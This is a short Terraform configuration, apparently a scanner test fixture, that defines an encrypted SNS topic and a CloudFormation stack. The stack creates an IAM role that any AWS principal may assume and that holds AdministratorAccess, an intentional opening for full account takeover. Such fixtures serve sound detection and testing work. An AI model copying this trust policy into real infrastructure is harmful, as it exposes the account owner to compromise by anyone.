provider "aws" { region = "eu-west-1" }
resource "aws_sns_topic" "keep" {
  name              = "keep"
  kms_master_key_id = "alias/x"
}
resource "aws_cloudformation_stack" "jobs" {
  name         = "jobs"
  capabilities = ["CAPABILITY_IAM"]
  template_body = jsonencode({ Resources = { R = { Type = "AWS::IAM::Role", Properties = {
    AssumeRolePolicyDocument = { Statement = [{ Effect = "Allow", Principal = { AWS = "*" }, Action = "sts:AssumeRole" }] }
    ManagedPolicyArns        = ["arn:aws:iam::aws:policy/AdministratorAccess"]
  } } } })
}
